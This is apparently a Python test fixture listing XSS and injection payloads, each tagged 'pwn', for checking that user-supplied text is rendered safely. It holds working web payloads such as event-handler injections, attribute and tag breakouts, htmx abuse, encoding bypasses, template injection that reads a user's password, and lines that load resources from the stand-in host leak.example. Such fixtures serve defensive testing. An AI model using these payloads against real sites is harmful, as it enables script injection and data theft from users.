"""Hostile text for every place where somebody's words are shown as mere text.

Each runs or fetches something if it is read as markup, as an attribute, as a script, as a template
or as an address, and bears `pwn` as class, attribute, id or name, so that it is found in a page even
where the content policy keeps it from running.
"""

# ruff: noqa: E501 - a payload stands on one line

PAYLOADS = (
    # Elements
    "<script class=pwn>alert(1)</script>",
    "<script class=pwn src=http://leak.example/x.js></script>",
    "<ScRiPt pwn>alert(1)</sCrIpT>",
    "<scr<script>ipt pwn>alert(1)</scr</script>ipt>",
    "<script type=module class=pwn>alert(1)</script>",
    "<img class=pwn src=x onerror=alert(1)>",
    "<img/class=pwn/src=x/onerror=alert(1)>",
    "<img class=pwn src=http://leak.example/a.png>",
    "<img class=pwn src=x onerror=alert`1`//",
    "<image class=pwn src=x onerror=alert(1)>",
    "<svg class=pwn onload=alert(1)>",
    "<svg/pwn/onload=alert(1)//",
    "<svg class=pwn><script>alert(1)</script></svg>",
    "<svg class=pwn><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math class=pwn><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe class=pwn srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe class=pwn src=javascript:alert(1)></iframe>",
    "<object class=pwn data=javascript:alert(1)></object>",
    "<embed class=pwn src=javascript:alert(1)>",
    "<details class=pwn open ontoggle=alert(1)>x</details>",
    "<input class=pwn autofocus onfocus=alert(1)>",
    "<video class=pwn><source onerror=alert(1)></video>",
    "<a class=pwn href=javascript:alert(1)>x</a>",
    "<form class=pwn action=javascript:alert(1)><button>x</button></form>",
    "<button class=pwn formaction=javascript:alert(1)>x</button>",
    "<base class=pwn href=http://leak.example/>",
    "<meta class=pwn http-equiv=refresh content='0;url=http://leak.example/a'>",
    "<link class=pwn rel=stylesheet href=http://leak.example/a.css>",
    "<style class=pwn>body{background:url(http://leak.example/s)}</style>",
    "<template class=pwn shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<pwn style=position:fixed;inset:0>x</pwn>",
    # Out of the element or the attribute where the words stand
    "\"><img class=pwn src=x onerror=alert(1)>",
    "'><img class=pwn src=x onerror=alert(1)>",
    "\" pwn=1 autofocus onfocus=alert(1) x=\"",
    "' pwn=1 autofocus onfocus=alert(1) x='",
    "` pwn=1 autofocus onfocus=alert(1) x=`",
    " pwn=1 autofocus onfocus=alert(1) tabindex=1 ",
    "</textarea><img class=pwn src=x onerror=alert(1)>",
    "</title><img class=pwn src=x onerror=alert(1)>",
    "</option></select><img class=pwn src=x onerror=alert(1)>",
    "</script><script class=pwn>alert(1)</script>",
    "</template><img class=pwn src=x onerror=alert(1)>",
    "</style><img class=pwn src=x onerror=alert(1)>",
    "--><img class=pwn src=x onerror=alert(1)>",
    "]]><img class=pwn src=x onerror=alert(1)>",
    # For htmx, which reads attributes
    "<div pwn hx-get=http://leak.example/h hx-trigger=load></div>",
    "<div pwn hx-on::load=alert(1) hx-on:click=alert(1)></div>",
    "\" pwn hx-get=\"http://leak.example/h\" hx-trigger=\"load",
    "<div id=pwn hx-swap-oob=true hx-vals='js:{x:alert(1)}'></div>",
    # Decoded once too often
    "&lt;img class=pwn src=x onerror=alert(1)&gt;",
    "&amp;lt;img class=pwn src=x onerror=alert(1)&amp;gt;",
    "&#60;img class=pwn src=x onerror=alert(1)&#62;",
    "%3Cimg class=pwn src=x onerror=alert(1)%3E",
    "\\u003cimg class=pwn src=x onerror=alert(1)\\u003e",
    "\\x3cimg class=pwn src=x onerror=alert(1)\\x3e",
    "＜img class=pwn src=x onerror=alert(1)＞",
    "+ADw-img class=pwn src=x onerror=alert(1)+AD4-",
    # Into a script, a template, an address
    "';alert(1);//pwn",
    "\";alert(1);//pwn",
    "\\';alert(1);//pwn",
    "${alert(1)} `${alert(1)}` pwn",
    "{{constructor.constructor('alert(1)')()}} pwn",
    "{% load i18n %}{{ request.user.password }}{% debug %} pwn",
    "javascript:alert(1)//pwn",
    "data:text/html,<script class=pwn>alert(1)</script>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!><sVg/pwn/oNloAd=alert(1)//>",
)  # fmt: skip
